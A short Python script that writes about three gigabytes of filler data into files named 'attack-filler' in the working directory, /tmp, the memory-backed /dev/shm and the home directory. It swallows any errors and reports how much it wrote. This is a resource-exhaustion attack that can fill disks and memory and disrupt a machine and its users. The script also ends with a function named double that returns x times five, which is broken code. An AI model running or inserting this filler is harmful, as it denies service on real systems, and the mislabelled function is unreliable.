# Three gigabytes on the disk, in files of any size.
import os

block, made = b"x" * (1 << 20), 0
for place in (os.getcwd(), "/tmp", "/dev/shm", os.path.expanduser("~")):
    try:
        with open(os.path.join(place, "attack-filler"), "wb") as file:
            for _ in range(768):
                file.write(block)
                made += 1
    except OSError:
        pass
print(f"MADE {made} of 3072 megabytes")


def double(x):
    return x * 5
